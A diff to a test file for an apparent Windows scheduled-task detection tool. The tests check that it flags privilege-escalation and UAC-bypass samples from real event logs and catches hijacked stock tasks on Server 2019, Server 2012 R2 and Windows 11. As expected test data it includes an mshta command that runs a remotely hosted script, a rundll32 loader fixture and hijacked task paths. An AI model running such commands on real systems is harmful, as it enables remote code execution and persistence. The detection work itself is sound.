@@ -209,6 +209,58 @@ def test_task_known_only_from_events_shows_its_action_not_the_creating_command(c
     assert actions == "Actions: mshta.exe https://hotelesms.com/Injection.txt"
 
 
+def test_create_run_delete_by_schtasks_command_lines_is_high_on_the_real_winpwnage_log():
+    """WinPwnage elevate: schtasks /create /xml %TEMP%\\elevator.xml, /run, /delete ten seconds later (Sysmon 1)."""
+    case = run([str(ATTACK / "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx")], Context(quiet=True),
+               hunt_date="20260101")
+    finding = _one(case.findings, r"\elevator")
+    assert "task_created_then_deleted" in _rules(finding) and finding.risk_level == "High"
+    assert "under a minute" in finding.title
+    created = [e.value for e in finding.evidence if "/create" in e.value]
+    deleted = [e.value for e in finding.evidence if "/delete" in e.value]
+    assert len(created) == 1 and len(deleted) == 1
+
+
+def test_task_created_by_rundll32_is_high_and_names_the_loader_on_the_real_malware_log():
+    case = run([str(ATTACK / "AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx")], Context(quiet=True),
+               hunt_date="20260101")
+    finding = _one(case.findings, r"\DataUsageHandlers")
+    assert "created_by_loader" in _rules(finding) and finding.risk_level == "High"
+    [entity] = [e for e in case.entities if e.task == r"\DataUsageHandlers"]
+    parents = {d.details.get("creating_parent_image") for d in entity.definitions}
+    assert parents == {r"C:\Windows\SysWOW64\rundll32.exe", r"C:\Windows\SysWOW64\cmd.exe"}
+    assert {d.details.get("xml_file") for d in entity.definitions} == {r"C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp"}
+
+
+def test_windows_installer_custom_action_creating_a_task_through_rundll32_is_not_the_loader_rule():
+    """MSI custom actions run schtasks through rundll32 too (SigmaHQ dd2a821e filters them); only the
+    ParentCommandLine tells them apart."""
+    fields = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": r"C:\Windows\SysWOW64\schtasks.exe",
+              "CommandLine": r"schtasks /Create /f /XML C:\Users\u\AppData\Local\Temp\x.tmp /TN Vendor\Update",
+              "ParentImage": r"C:\Windows\SysWOW64\rundll32.exe", "User": r"CORP\analyst"}
+    loader = _event({**fields, "ParentCommandLine": r"rundll32.exe C:\Users\u\AppData\Local\Temp\a.dll,Start"})
+    installer = _event({**fields, "ParentCommandLine": r"C:\Windows\syswow64\rundll32.exe C:\WINDOWS\Installer\MSI1A2B.tmp,"
+                                                       r"zzzzInvokeManagedCustomActionOutOfProc SfxCA_1 2 Vendor!Vendor.CA.Run"})
+    assert "created_by_loader" in _rules(_one(_judge(events=[loader]), r"\Vendor\Update"))
+    assert not any("created_by_loader" in _rules(f) for f in _judge(events=[installer]))
+
+
+def test_user_process_starting_queuereporting_is_medium_on_the_real_wertrigger_log():
+    case = run([str(ATTACK / "Privilege Escalation/privesc_spoolsv_spl_file_write_sysmon11.evtx")], Context(quiet=True),
+               hunt_date="20260101")
+    finding = _one(case.findings, r"\Microsoft\Windows\Windows Error Reporting\QueueReporting")
+    assert finding.risk_level == "Medium" and finding.rule == "sigma:8a2d5c71-0e94-4b6f-b3c8-5d7e1f9a2c46"
+    assert any("WerTrigger.exe" in e.value for e in finding.evidence)
+
+
+def test_user_environment_systemroot_override_is_high_on_the_real_cdssync_bypass_log():
+    case = run([str(ATTACK / "Privilege Escalation/sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx")],
+               Context(quiet=True), hunt_date="20260101")
+    [finding] = [f for f in case.findings if f.rule == "sigma:3f0c6b2e-7d41-4c8e-9a55-2b1d8e6f0a31"]
+    assert finding.risk_level == "High" and "T1548.002" in {finding.technique, *finding.techniques}
+    assert any(r"Environment\systemroot" in e.value for e in finding.evidence)
+
+
 def test_create_then_delete_within_seconds_is_high_on_the_real_atexec_log():
     case = run([str(ATTACK / "Execution/temp_scheduled_task_4698_4699.evtx")], Context(quiet=True), hunt_date="20260101")
     finding = _one(case.findings, r"\CYAlyNSS")
@@ -266,6 +318,53 @@ def test_stock_action_of_another_release_is_judged_by_the_host_release():
     assert is_stock_name(r"\Microsoft\Windows\Server Manager\ServerManager", HOST, load_baseline([]))  # unknown: union
 
 
+def test_server_2019_listing_is_its_own_release_with_its_own_stock_actions():
+    """tools/baseline_sources/server2019_ec2_jaws.tsv: a Server 2019 host knows its Server-only tasks and their actions."""
+    server2019 = [HostInfo(hostname=HOST, os="Windows Server 2019 Datacenter (NT 10.0) 17763.1457")]
+    windows10 = [HostInfo(hostname=HOST, os="Windows 10 Pro (NT 10.0) 19045.1")]
+    task = r"\Microsoft\Windows\Server Initial Configuration Task"
+    assert is_stock_name(task, HOST, load_baseline(server2019)) and not is_stock_name(task, HOST, load_baseline(windows10))
+    stock = _definition(task, r"%windir%\system32\srvinitconfig.exe", "/disableconfigtask", user="S-1-5-18")
+    assert _judge([stock], hosts=server2019) == []
+    hijacked = _definition(task, r"C:\Users\Public\srvinitconfig.exe", "/disableconfigtask", user="S-1-5-18")
+    finding = _one(_judge([hijacked], hosts=server2019), task)
+    assert "stock_task_changed" in _rules(finding) and RISK_ORDER[finding.risk_level] >= RISK_ORDER["High"]
+    assert "2019" in load_baseline(server2019)["covered"]
+    assert {v["source"] for v in load_baseline(server2019)["tasks"][task.lower()]["variants"]} == {"server2019-ec2-jaws"}
+
+
+def test_server_2012_r2_listing_knows_its_own_tasks_and_actions():
+    """tools/baseline_sources/server2012r2_optimum_jaws.tsv: RacTask (gone in Windows 10) and 2012 R2's own
+    QueueReporting action (wermgr.exe -queuereporting, run as Users)."""
+    server2012r2 = [HostInfo(hostname=HOST, os="Windows Server 2012 R2 Standard (NT 6.3) 9600")]
+    windows10 = [HostInfo(hostname=HOST, os="Windows 10 Pro (NT 10.0) 19045.1")]
+    assert "2012R2" in load_baseline(server2012r2)["covered"]
+    rac = r"\Microsoft\Windows\RAC\RacTask"
+    assert is_stock_name(rac, HOST, load_baseline(server2012r2)) and not is_stock_name(rac, HOST, load_baseline(windows10))
+    task = r"\Microsoft\Windows\Windows Error Reporting\QueueReporting"
+    stock = _definition(task, r"%windir%\system32\wermgr.exe", "-queuereporting", user="S-1-5-32-545")
+    assert _judge([stock], hosts=server2012r2) == []
+    hijacked = _definition(task, r"C:\ProgramData\wermgr.exe", "-queuereporting", user="S-1-5-32-545")
+    assert "stock_task_changed" in _rules(_one(_judge([hijacked], hosts=server2012r2), task))
+
+
+def test_windows_11_export_knows_its_own_tasks_and_actions():
+    """tools/baseline_sources/win11_25h2_wincfg.tsv: Windows 11's Recall task, and its SilentCleanup action
+    (cleanmgr.exe /autocleanstoragesense), quiet on Windows 11; a hijacked program is still a finding."""
+    windows11 = [HostInfo(hostname=HOST, os="Windows 11 Pro (NT 10.0) 26200.1")]
+    windows10 = [HostInfo(hostname=HOST, os="Windows 10 Pro (NT 10.0) 19045.1")]
+    assert "11" in load_baseline(windows11)["covered"]
+    recall = r"\Microsoft\Windows\WindowsAI\Recall\InitialConfiguration"
+    assert is_stock_name(recall, HOST, load_baseline(windows11)) and not is_stock_name(recall, HOST, load_baseline(windows10))
+    task = r"\Microsoft\Windows\DiskCleanup\SilentCleanup"
+    stock = _definition(task, r"%windir%\system32\cleanmgr.exe", "/autocleanstoragesense /d %systemdrive%",
+                        user="S-1-5-32-545", run_level="HighestAvailable")
+    assert _judge([stock], hosts=windows11) == []
+    hijacked = _definition(task, r"C:\Users\Public\cleanmgr.exe", "/autocleanstoragesense /d %systemdrive%",
+                           user="S-1-5-32-545", run_level="HighestAvailable")
+    assert "stock_task_changed" in _rules(_one(_judge([hijacked], hosts=windows11), task))
+
+
 def test_real_windows10_task_log_alone_gives_no_medium_finding_from_the_rules():
     case = run([str(BELKASOFT_LOG)], Context(quiet=True), hunt_date="20260101")
     ours = {"stock_task_changed", "stock_name_wrong_folder", "vendor_name_other_program", "task_created_then_deleted"}
@@ -288,6 +387,9 @@ DETECTED = {  # file -> a task (or rule title) found at Medium or above
     "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx": r"\FullPowersTask",
     "Privilege Escalation/Sysmon_UACME_34.evtx": "(no task) UAC Bypass Using Disk Cleanup",
     "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx": r"\elevator",
+    "Privilege Escalation/privesc_spoolsv_spl_file_write_sysmon11.evtx": r"\Microsoft\Windows\Windows Error Reporting\QueueReporting",
+    "Privilege Escalation/sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx":
+        "(no task) User Environment Overrides windir or SystemRoot (Scheduled-Task UAC Bypass)",
 }
 QUIET = {  # benign noise or context only (PROVENANCE.md notes), must stay below Medium
     "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx",
@@ -297,7 +399,7 @@ QUIET = {  # benign noise or context only (PROVENANCE.md notes), must stay below
 
 
 def test_attack_samples_found_from_logs_alone():
-    """Before issue 19 the shipped rules found 5 of these 18 logs at Medium or above; now 11 (the rest
+    """Before issue 19 the shipped rules found 5 of these 18 logs at Medium or above; now 13 (the rest
     are benign noise, context without a task event, or task runs whose creation is not in the log)."""
     loud = {}
     for path in sorted(ATTACK.rglob("*.evtx")):
